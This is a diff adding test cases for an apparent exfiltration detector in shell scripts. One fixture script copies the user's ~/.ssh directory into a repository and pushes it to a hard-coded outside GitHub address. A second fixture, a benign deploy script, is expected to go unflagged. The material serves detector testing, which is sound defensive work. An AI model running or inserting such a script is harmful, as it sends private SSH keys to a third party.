@@ -115,6 +115,21 @@ const cases: Case[] = [
     ],
   },
   {
+    name: 'git push to an address in the script, by URL or scp-like, after copying credentials into the repository',
+    path: 'scripts/backup.sh',
+    text: '#!/bin/bash\ncp -r ~/.ssh keys\ngit add . && git commit -qm b\ngit push -q git@github.com:sync-bot/backups.git HEAD:main\n',
+    expect: [
+      ['PE3', 2],
+      ['E1', 4],
+    ],
+  },
+  {
+    name: 'no flow: a build pushed to the remote the user set up, and a pull from an address',
+    path: 'scripts/deploy.sh',
+    text: '#!/bin/bash\ncp ~/.ssh/known_hosts.bak /dev/null\ngit add site && git commit -qm site\ngit push origin gh-pages\ngit pull https://github.com/acme/site.git main\n',
+    absent: ['E1', 'E2'],
+  },
+  {
     name: 'no flow: the build and a review comment published with gh',
     path: 'scripts/release.sh',
     text: '#!/bin/bash\nset -euo pipefail\ngh release upload "$TAG" dist/app.tar.gz\ngh pr comment "$PR" --body-file review.md\ngh gist create notes.md\n',
